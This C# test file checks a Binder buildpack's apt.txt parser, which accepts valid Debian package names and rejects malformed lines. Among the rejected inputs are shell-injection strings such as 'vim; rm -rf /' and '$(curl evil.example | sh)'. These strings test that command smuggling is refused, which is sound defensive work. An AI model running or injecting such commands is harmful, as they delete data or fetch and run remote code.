using Binder.Build.Buildpacks;

namespace Binder.Build.Tests.Buildpacks;

public sealed class AptTxtTests
{
    [Fact]
    public void Reads_names_skipping_comments_and_blank_lines()
    {
        var packages = AptTxt.Parse("# tools\nvim\n\n  less   # pager\r\ngfortran\n#end\n", "apt.txt");

        Assert.Equal(["vim", "less", "gfortran"], packages);
    }

    [Fact]
    public void Reads_several_names_on_a_line_and_drops_duplicates()
    {
        Assert.Equal(["libxml2-dev", "libgl1", "vim"], AptTxt.Parse("libxml2-dev libgl1\tvim\nvim\n", "apt.txt"));
    }

    [Theory]
    [InlineData("g++")]
    [InlineData("libstdc++6")]
    [InlineData("python3.11")]
    [InlineData("libc6:amd64")]
    [InlineData("vim=2:9.0.1378-2")]
    [InlineData("r-base=4.2.2.20221110-2")]
    [InlineData("nodejs/bookworm-backports")]
    [InlineData("x11-apps")]
    public void Accepts_Debian_package_names(string name)
    {
        Assert.Equal([name], AptTxt.Parse(name + "\n", "apt.txt"));
    }

    [Theory]
    [InlineData("vim; rm -rf /", 1, "vim;")]
    [InlineData("# fine\nless\n$(curl evil.example | sh)", 3, "$(curl")]
    [InlineData("`reboot`", 1, "`reboot`")]
    [InlineData("vim && touch /x", 1, "&&")]
    [InlineData("vim|sh", 1, "vim|sh")]
    [InlineData("Vim", 1, "Vim")]
    [InlineData("-o", 1, "-o")]
    [InlineData("--allow-unauthenticated", 1, "--allow-unauthenticated")]
    [InlineData("a", 1, "'a'")]
    [InlineData("pkg*", 1, "pkg*")]
    [InlineData("ok\n\n\n.hidden", 4, ".hidden")]
    [InlineData("vim=latest", 1, "vim=latest")]
    [InlineData("vim>1.0", 1, "vim>1.0")]
    [InlineData("caf\u00e9", 1, "caf\u00e9")]
    [InlineData("vim\u000bless", 1, "vim?less")]
    [InlineData("'vim'", 1, "'vim'")]
    public void Refuses_anything_else_naming_line_and_text(string text, int line, string shown)
    {
        var error = Assert.Throws<RepositoryLayoutException>(() => AptTxt.Parse(text, "binder/apt.txt"));

        Assert.StartsWith($"binder/apt.txt line {line}: ", error.Message, StringComparison.Ordinal);
        Assert.Contains(shown, error.Message, StringComparison.Ordinal);
        Assert.Contains("one package name per line", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void An_empty_or_comment_only_file_has_no_packages()
    {
        Assert.Empty(AptTxt.Parse("", "apt.txt"));
        Assert.Empty(AptTxt.Parse("# nothing yet\n\n", "apt.txt"));
    }

    [Fact]
    public void Reads_a_file_from_disk()
    {
        using var repo = new TempRepository().File("apt.txt", "curl\n");

        Assert.Equal(["curl"], AptTxt.Read(Path.Combine(repo.Root, "apt.txt"), "apt.txt"));
    }

    [Fact]
    public void Planning_refuses_an_invalid_apt_txt_in_the_environment_directory()
    {
        using var repo = new TempRepository().File("binder/apt.txt", "vim\nless; curl x\n").File("binder/requirements.txt", "");

        var error = Assert.Throws<RepositoryLayoutException>(() => PlanTests.Plan(repo));

        Assert.StartsWith("binder/apt.txt line 2: 'less;'", error.Message, StringComparison.Ordinal);
    }
}
